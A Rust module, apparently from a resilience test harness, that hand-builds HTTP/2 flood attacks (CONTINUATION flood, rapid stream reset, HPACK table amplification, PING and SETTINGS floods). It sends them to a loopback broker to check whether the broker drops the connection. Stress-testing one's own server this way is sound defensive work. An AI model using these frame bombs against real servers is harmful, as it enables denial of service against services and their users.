//! HTTP/2 by hand (RFC 9113): frames that cost the sender little and a careless receiver much.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::LONGEST;
use crate::endpoint::{Loopback, Protocol, Tls};

/// No bomb has more frames.
const MOST_FRAMES: usize = 1_000_000;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM_AND_HEADERS: u8 = 5;

/// What is sent after the preface.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, clap::ValueEnum)]
pub enum FrameBomb {
    /// One block of headers that never ends.
    Continuation,
    /// Requests that are taken back as soon as they are made.
    Reset,
    /// One header of 3 KiB, then blocks that name it a thousand times with one byte each (HPACK's dynamic table).
    Table,
    /// Pings, each of which wants an answer.
    Ping,
    /// Settings, each of which wants an answer.
    Settings,
}

/// Sends so many frames. Whether the broker ended the connection by itself.
pub async fn frame_bomb(
    target: &Loopback,
    tls: &Tls,
    bomb: FrameBomb,
    frames: usize,
    limit: Duration,
) -> Result<bool> {
    ensure!(frames <= MOST_FRAMES, "at most {MOST_FRAMES} frames");
    let stream = target.endpoint().connect_tls(tls, Protocol::Http2).await.context("no connection")?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let authority = target.endpoint().authority().to_string();
    let send = async {
        writer.write_all(PREFACE).await?;
        writer.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
        if bomb == FrameBomb::Continuation {
            writer.write_all(&frame(HEADERS, 0, 1, &request(&authority))).await?;
        }
        for number in 0..frames {
            let stream = u32::try_from(number).unwrap_or(0).saturating_mul(2).saturating_add(1);
            let bytes = match bomb {
                FrameBomb::Continuation => frame(CONTINUATION, 0, 1, &literal("x-pad", &"a".repeat(8_000))),
                FrameBomb::Reset => {
                    let begin = frame(HEADERS, END_STREAM_AND_HEADERS, stream, &request(&authority));
                    [begin, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
                }
                FrameBomb::Table => {
                    let mut block = request(&authority);
                    match number {
                        0 => block.extend(indexed_literal("x-table", &"a".repeat(3_000))),
                        // Index 62 is the newest entry of the dynamic table (RFC 7541, section 2.3.3).
                        _ => block.extend([0x80 | 62; 1_000]),
                    }
                    frame(HEADERS, END_STREAM_AND_HEADERS, stream, &block)
                }
                FrameBomb::Ping => frame(PING, 0, 0, &[7; 8]),
                FrameBomb::Settings => frame(SETTINGS, 0, 0, &[]),
            };
            writer.write_all(&bytes).await?;
        }
        writer.flush().await
    };
    // What the broker answers is read, so that it is not the full buffers that stop it.
    let receive = async {
        let mut buffer = vec![0; 16 << 10];
        while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
    };
    let both = async {
        tokio::pin!(receive);
        tokio::select! {
            () = &mut receive => true,
            sent = send => match sent {
                Err(_) => true,
                // All went out; the end may still be on its way.
                Ok(()) => tokio::time::timeout(Duration::from_secs(1), receive).await.is_ok(),
            },
        }
    };
    Ok(tokio::time::timeout(limit.min(LONGEST), both).await.unwrap_or(false))
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A request of `/healthz`, in HPACK (RFC 7541): `:method: GET` and `:scheme: https` are entries 2 and 7 of its table.
fn request(authority: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    block.extend([0x04, 8]);
    block.extend(b"/healthz");
    block.push(0x01);
    block.extend(integer(authority.len(), 7));
    block.extend(authority.as_bytes());
    block
}

/// A header that is not put into the table.
fn literal(name: &str, value: &str) -> Vec<u8> {
    with_name(0x00, name, value)
}

/// A header that is put into the table.
fn indexed_literal(name: &str, value: &str) -> Vec<u8> {
    with_name(0x40, name, value)
}

fn with_name(first: u8, name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![first];
    for text in [name, value] {
        bytes.extend(integer(text.len(), 7));
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// An integer with a prefix of so many bits (RFC 7541, section 5.1), whose other bits are zero.
fn integer(value: usize, bits: u32) -> Vec<u8> {
    let most = (1_usize << bits) - 1;
    if value < most {
        return vec![value as u8];
    }
    let (mut bytes, mut rest) = (vec![most as u8], value - most);
    while rest >= 128 {
        bytes.push((rest % 128 + 128) as u8);
        rest /= 128;
    }
    bytes.push(rest as u8);
    bytes
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn integers_are_as_in_the_examples_of_rfc_7541() {
        assert_eq!(integer(10, 5), [10]);
        assert_eq!(integer(1337, 5), [31, 154, 10]);
        assert_eq!(integer(42, 8), [42]);
    }

    #[test]
    fn frames_have_their_length_kind_and_stream() {
        assert_eq!(frame(PING, 0, 0, &[7; 8])[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
        let long = frame(CONTINUATION, 4, 1, &[0; 0x1234]);
        assert_eq!(long[..9], [0, 0x12, 0x34, 9, 4, 0, 0, 0, 1]);
    }
}
